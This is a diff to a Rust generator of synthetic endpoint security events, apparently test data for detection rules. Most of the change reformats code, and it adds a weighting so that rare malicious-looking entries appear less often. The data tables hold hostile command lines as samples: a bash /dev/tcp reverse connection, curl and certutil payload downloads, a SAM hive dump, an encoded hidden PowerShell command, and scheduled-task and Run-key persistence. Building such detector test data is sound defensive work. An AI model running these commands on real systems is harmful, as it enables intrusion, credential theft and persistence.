@@ -136,35 +136,107 @@ impl Process {
 }
 
 const WINDOWS_PROGRAMS: &[(&str, &[&str])] = &[
-    (r"C:\Windows\System32\svchost.exe", &["-k netsvcs -p -s Schedule", "-k LocalService -p", "-k DcomLaunch -p -s LSM"]),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        &["-k netsvcs -p -s Schedule", "-k LocalService -p", "-k DcomLaunch -p -s LSM"],
+    ),
     (r"C:\Windows\System32\conhost.exe", &[r"0xffffffff -ForceV1", "0x4"]),
-    (r"C:\Windows\System32\cmd.exe", &[r#"/c "C:\ProgramData\Contoso\agent\check.bat" --quiet"#, "/d /s /c \"echo %PATH%\"", "/c dir \"C:\\Users\\Public\""]),
-    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", &[r#"-NoProfile -File "C:\ops\inventory.ps1""#, "-ExecutionPolicy Bypass -Command \"Get-Process | Sort-Object CPU\"", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"]),
-    (r"C:\Windows\System32\rundll32.exe", &[r"C:\Windows\System32\shell32.dll,Control_RunDLL timedate.cpl", r"C:\Users\Public\a.dll,#1"]),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        &[
+            r#"/c "C:\ProgramData\Contoso\agent\check.bat" --quiet"#,
+            "/d /s /c \"echo %PATH%\"",
+            "/c dir \"C:\\Users\\Public\"",
+        ],
+    ),
+    (
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        &[
+            r#"-NoProfile -File "C:\ops\inventory.ps1""#,
+            "-ExecutionPolicy Bypass -Command \"Get-Process | Sort-Object CPU\"",
+            "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+        ],
+    ),
+    (
+        r"C:\Windows\System32\rundll32.exe",
+        &[
+            r"C:\Windows\System32\shell32.dll,Control_RunDLL timedate.cpl",
+            r"C:\Users\Public\a.dll,#1",
+        ],
+    ),
     (r"C:\Windows\System32\wbem\WmiPrvSE.exe", &["-secured -Embedding", "-Embedding"]),
-    (r"C:\Windows\explorer.exe", &["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"]),
-    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", &["--type=renderer --lang=de --enable-features=Grüße --field-trial-handle=1712,i,901", "--type=utility --utility-sub-type=network.mojom.NetworkService"]),
-    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", &[r#"/n "C:\Users\zoë\Documents\Übersicht 2024.docx" /o """#, "/Embedding"]),
+    (
+        r"C:\Windows\explorer.exe",
+        &["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"],
+    ),
+    (
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        &[
+            "--type=renderer --lang=de --enable-features=Grüße --field-trial-handle=1712,i,901",
+            "--type=utility --utility-sub-type=network.mojom.NetworkService",
+        ],
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        &[r#"/n "C:\Users\zoë\Documents\Übersicht 2024.docx" /o """#, "/Embedding"],
+    ),
     (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", &["/recycle", "-Embedding"]),
-    (r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe", &[r#"--set nightly --target "\\fs01\backup$\%COMPUTERNAME%""#, "--verify"]),
-    (r"C:\Users\zoë\AppData\Local\Temp\is-4K2.tmp\setup.tmp", &["/SL5=\"$40312,1283,0\" /VERYSILENT"]),
-    (r"C:\Windows\System32\certutil.exe", &["-hashfile C:\\ops\\pack.zip SHA256", "-urlcache -split -f http://203.0.113.7/a.bin C:\\ProgramData\\a.bin"]),
+    (
+        r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe",
+        &[r#"--set nightly --target "\\fs01\backup$\%COMPUTERNAME%""#, "--verify"],
+    ),
+    (
+        r"C:\Users\zoë\AppData\Local\Temp\is-4K2.tmp\setup.tmp",
+        &["/SL5=\"$40312,1283,0\" /VERYSILENT"],
+    ),
+    (
+        r"C:\Windows\System32\certutil.exe",
+        &[
+            "-hashfile C:\\ops\\pack.zip SHA256",
+            "-urlcache -split -f http://203.0.113.7/a.bin C:\\ProgramData\\a.bin",
+        ],
+    ),
     (r"C:\Windows\System32\net.exe", &["use Z: \\\\fs01\\team", "localgroup administrators"]),
-    (r"C:\Windows\System32\schtasks.exe", &["/query /fo CSV /v", r"/create /tn upd /tr C:\Users\Public\u.exe /sc daily"]),
-    (r"C:\Windows\System32\reg.exe", &[r"query HKLM\SOFTWARE\Contoso /v Version", r"save HKLM\SAM C:\Windows\Temp\sam.save"]),
-    (r"D:\apps\build\node_modules\.bin\node.exe", &["./server.js --port 3000 --env=\"prod\\eu\"", "-e \"console.log('ok\\n')\""]),
+    (
+        r"C:\Windows\System32\schtasks.exe",
+        &["/query /fo CSV /v", r"/create /tn upd /tr C:\Users\Public\u.exe /sc daily"],
+    ),
+    (
+        r"C:\Windows\System32\reg.exe",
+        &[r"query HKLM\SOFTWARE\Contoso /v Version", r"save HKLM\SAM C:\Windows\Temp\sam.save"],
+    ),
+    (
+        r"D:\apps\build\node_modules\.bin\node.exe",
+        &["./server.js --port 3000 --env=\"prod\\eu\"", "-e \"console.log('ok\\n')\""],
+    ),
 ];
 
 const LINUX_PROGRAMS: &[(&str, &[&str])] = &[
-    ("/usr/bin/bash", &["-c \"cd /srv/app && ./run.sh 2>&1 | tee -a log.txt\"", "--login", "-c \"exec 3<>/dev/tcp/198.51.100.9/4444\""]),
+    (
+        "/usr/bin/bash",
+        &[
+            "-c \"cd /srv/app && ./run.sh 2>&1 | tee -a log.txt\"",
+            "--login",
+            "-c \"exec 3<>/dev/tcp/198.51.100.9/4444\"",
+        ],
+    ),
     ("/usr/bin/python3.11", &["/opt/vendor/collect.py --once", "-m http.server 8000"]),
-    ("/usr/bin/curl", &["-fsSL https://mirror.example.org/pool/index.json -o /var/cache/index.json", "-s http://203.0.113.7/x.sh -o /tmp/.x"]),
+    (
+        "/usr/bin/curl",
+        &[
+            "-fsSL https://mirror.example.org/pool/index.json -o /var/cache/index.json",
+            "-s http://203.0.113.7/x.sh -o /tmp/.x",
+        ],
+    ),
     ("/usr/sbin/sshd", &["-D -R", "-i"]),
     ("/usr/bin/dpkg", &["--status-fd 27 --configure --pending", "-l"]),
     ("/usr/bin/grep", &["-rn --include=*.conf listen /etc/nginx", "-c processor /proc/cpuinfo"]),
     ("/usr/sbin/nginx", &["-g \"daemon off;\"", "-t -q"]),
     ("/usr/bin/systemctl", &["is-active --quiet nginx", "restart contoso-agent"]),
-    ("/usr/bin/java", &["-Xmx2g -Dfile.encoding=UTF-8 -jar /srv/app/größe.jar --spring.profiles.active=prod"]),
+    (
+        "/usr/bin/java",
+        &["-Xmx2g -Dfile.encoding=UTF-8 -jar /srv/app/größe.jar --spring.profiles.active=prod"],
+    ),
     ("/bin/rm", &["-rf /var/tmp/build-3f2a", "-f /var/log/app/debug.log"]),
 ];
 
@@ -201,18 +273,34 @@ const LINUX_FILES: &[&str] = &[
 
 const KEYS: &[(&str, &str)] = &[
     (r"HKLM\SYSTEM\ControlSet001\Services\bam\State\UserSettings\S-1-5-21-1004\chrome.exe", "0"),
-    (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Contoso", r#""C:\Program Files\Contoso\tray.exe" /min"#),
-    (r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\0", "Übersicht"),
-    (r"HKLM\SYSTEM\ControlSet001\Services\CBackup\ImagePath", r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe"),
-    (r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\upd", r"C:\Users\Public\u.exe"),
+    (
+        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Contoso",
+        r#""C:\Program Files\Contoso\tray.exe" /min"#,
+    ),
+    (
+        r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\0",
+        "Übersicht",
+    ),
+    (
+        r"HKLM\SYSTEM\ControlSet001\Services\CBackup\ImagePath",
+        r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe",
+    ),
+    (
+        r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\upd",
+        r"C:\Users\Public\u.exe",
+    ),
     (r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\D:\apps", "0"),
     (r"HKLM\SOFTWARE\Policies\Microsoft\Windows\DeliveryOptimization\DODownloadMode", "1"),
 ];
 
 impl Maker {
     fn new(seed: u64) -> Self {
-        let mut maker =
-            Self { rng: Rng::with_seed(seed), now: 1_704_067_200_000, sequence: 0, hosts: Vec::new() };
+        let mut maker = Self {
+            rng: Rng::with_seed(seed),
+            now: 1_704_067_200_000,
+            sequence: 0,
+            hosts: Vec::new(),
+        };
         for at in 0..24 {
             let host = maker.host(at);
             maker.hosts.push(host);
@@ -247,16 +335,25 @@ impl Maker {
         [8, 4, 4, 4, 12].map(|digits| self.hex(digits)).join("-")
     }
 
+    /// One of a list, in which the first ones are the common ones.
     fn pick<T: Copy>(&mut self, list: &[T]) -> T {
-        // The first of a list are the common ones.
-        let (a, b) = (self.rng.usize(..list.len()), self.rng.usize(..list.len()));
-        list[a.min(b)]
+        self.least_of(2, list)
+    }
+
+    /// One of a list whose last ones are what rules look for, which hardly ever happens.
+    fn usual<T: Copy>(&mut self, list: &[T]) -> T {
+        self.least_of(5, list)
+    }
+
+    fn least_of<T: Copy>(&mut self, draws: usize, list: &[T]) -> T {
+        let at = (0..draws).map(|_| self.rng.usize(..list.len())).min();
+        list[at.unwrap_or_default()]
     }
 
     fn process(&mut self, host: &Host) -> Process {
         let (executable, lines) =
             self.pick(if host.windows { WINDOWS_PROGRAMS } else { LINUX_PROGRAMS });
-        let arguments = self.pick(lines);
+        let arguments = self.usual(lines);
         let command_line = match executable.contains(' ') {
             true => format!("\"{executable}\" {arguments}"),
             false => format!("{executable} {arguments}"),
@@ -273,15 +370,18 @@ impl Maker {
         self.now += self.rng.u64(1..400);
         self.sequence += 1;
         let at = self.rng.usize(..self.hosts.len());
-        let mut host = std::mem::replace(&mut self.hosts[at], Host {
-            name: String::new(),
-            id: String::new(),
-            agent: String::new(),
-            ip: String::new(),
-            windows: false,
-            user: "",
-            processes: Vec::new(),
-        });
+        let mut host = std::mem::replace(
+            &mut self.hosts[at],
+            Host {
+                name: String::new(),
+                id: String::new(),
+                agent: String::new(),
+                ip: String::new(),
+                windows: false,
+                user: "",
+                processes: Vec::new(),
+            },
+        );
         let event = match (self.rng.u8(..100), host.windows) {
             (0..=37, _) => self.of_process(&mut host),
             (38..=57, _) => self.of_file(&host),
@@ -296,7 +396,14 @@ impl Maker {
     }
 
     /// What all events have: the agent, the host, the user, and how the event came to be.
-    fn frame(&mut self, host: &Host, dataset: &str, category: &str, kind: &[&str], action: &str) -> Map<String, Value> {
+    fn frame(
+        &mut self,
+        host: &Host,
+        dataset: &str,
+        category: &str,
+        kind: &[&str],
+        action: &str,
+    ) -> Map<String, Value> {
         let (seconds, millis) = (self.now / 1_000, self.now % 1_000);
         let (minutes, hours, days) = (seconds / 60, seconds / 3_600, seconds / 86_400);
         let time = format!(
@@ -367,8 +474,7 @@ impl Maker {
             (true, false) => ("start", "exec"),
             (false, _) => ("end", "end"),
         };
-        let mut document =
-            self.frame(host, "endpoint.events.process", "process", &[kind], action);
+        let mut document = self.frame(host, "endpoint.events.process", "process", &[kind], action);
         let parent = host.processes[self.rng.usize(..host.processes.len())].clone();
         let process = self.process(host);
         let args: Vec<&str> = process.command_line.split(' ').collect();
@@ -403,10 +509,14 @@ impl Maker {
     }
 
     fn of_file(&mut self, host: &Host) -> Value {
-        let (kind, action) =
-            self.pick(&[("change", "modification"), ("creation", "creation"), ("deletion", "deletion"), ("change", "rename")]);
+        let (kind, action) = self.pick(&[
+            ("change", "modification"),
+            ("creation", "creation"),
+            ("deletion", "deletion"),
+            ("change", "rename"),
+        ]);
         let mut document = self.frame(host, "endpoint.events.file", "file", &[kind], action);
-        let path = self.pick(if host.windows { WINDOWS_FILES } else { LINUX_FILES });
+        let path = self.usual(if host.windows { WINDOWS_FILES } else { LINUX_FILES });
         let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
         let folder = path.get(..path.len() - name.len() - 1).unwrap_or("");
         let mut file = json!({
@@ -434,11 +544,22 @@ impl Maker {
         let mut document =
             self.frame(host, "endpoint.events.network", "network", &["connection", kind], action);
         if action == "lookup_requested" {
-            let name = self.pick(&["wpad.corp.example", "update.contoso.example", "www.münchen.example", "c2.duckdns.org"]);
+            let name = self.usual(&[
+                "wpad.corp.example",
+                "update.contoso.example",
+                "www.münchen.example",
+                "c2.duckdns.org",
+            ]);
             document.insert("dns".to_owned(), json!({ "question": { "name": name, "type": "A" }, "resolved_ip": ["203.0.113.7"] }));
         }
-        let far = self.pick(&["10.20.0.5", "192.168.7.20", "203.0.113.7", "198.51.100.9", "2001:db8::7"]);
-        let port = self.pick(&[443, 53, 445, 80, 88, 3389, 4444]);
+        let far = self.usual(&[
+            "10.20.0.5",
+            "192.168.7.20",
+            "203.0.113.7",
+            "198.51.100.9",
+            "2001:db8::7",
+        ]);
+        let port = self.usual(&[443, 53, 445, 80, 88, 3389, 4444]);
         document.insert("destination".to_owned(), json!({
             "address": far, "ip": far, "port": port, "bytes": self.rng.u32(..90_000),
             "geo": { "continent_name": "Europe", "country_iso_code": "DE", "location": { "lon": 11.57, "lat": 48.13 } },
@@ -452,7 +573,7 @@ impl Maker {
     fn of_registry(&mut self, host: &Host) -> Value {
         let mut document =
             self.frame(host, "endpoint.events.registry", "registry", &["change"], "modification");
-        let (path, data) = self.pick(KEYS);
+        let (path, data) = self.usual(KEYS);
         let (hive, key) = path.split_once('\\').unwrap_or((path, ""));
         let (_, value) = path.rsplit_once('\\').unwrap_or((path, ""));
         document.insert("registry".to_owned(), json!({
@@ -465,7 +586,7 @@ impl Maker {
     fn of_library(&mut self, host: &Host) -> Value {
         let mut document =
             self.frame(host, "endpoint.events.library", "library", &["start"], "load");
-        let path = self.pick(LIBRARIES);
+        let path = self.usual(LIBRARIES);
         let name = path.rsplit('\\').next().unwrap_or(path);
         document.insert("dll".to_owned(), json!({
             "Ext": { "load_index": self.rng.u8(..), "relative_file_creation_time": 1_283.5, "code_signature": [signature(host, path)] },
@@ -477,13 +598,20 @@ impl Maker {
     }
 
     fn of_logon(&mut self, host: &Host) -> Value {
-        let (action, outcome) = self.pick(&[("logged-in", "success"), ("logon-failed", "failure"), ("ssh_login", "success")]);
+        let (action, outcome) = self.usual(&[
+            ("logged-in", "success"),
+            ("logon-failed", "failure"),
+            ("ssh_login", "success"),
+        ]);
         let mut document =
             self.frame(host, "endpoint.events.security", "authentication", &["start"], action);
         document["event"]["outcome"] = json!(outcome);
         document["event"]["category"] = json!(["authentication", "session"]);
-        let from = self.pick(&["10.20.0.5", "127.0.0.1", "203.0.113.7"]);
-        document.insert("source".to_owned(), json!({ "ip": from, "address": from, "port": self.rng.u16(49_152..) }));
+        let from = self.usual(&["10.20.0.5", "127.0.0.1", "203.0.113.7"]);
+        document.insert(
+            "source".to_owned(),
+            json!({ "ip": from, "address": from, "port": self.rng.u16(49_152..) }),
+        );
         document.insert("process".to_owned(), self.source(host));
         Value::Object(document)
     }
@@ -494,8 +622,7 @@ fn signature(host: &Host, path: &str) -> Value {
     if !host.windows || path.contains("AppData") || path.starts_with('D') {
         return json!({ "exists": false });
     }
-    let subject =
-        if path.starts_with(r"C:\Windows") { "Microsoft Windows" } else { "Contoso Ltd" };
+    let subject = if path.starts_with(r"C:\Windows") { "Microsoft Windows" } else { "Contoso Ltd" };
     json!({ "trusted": true, "subject_name": subject, "exists": true, "status": "trusted" })
 }
 
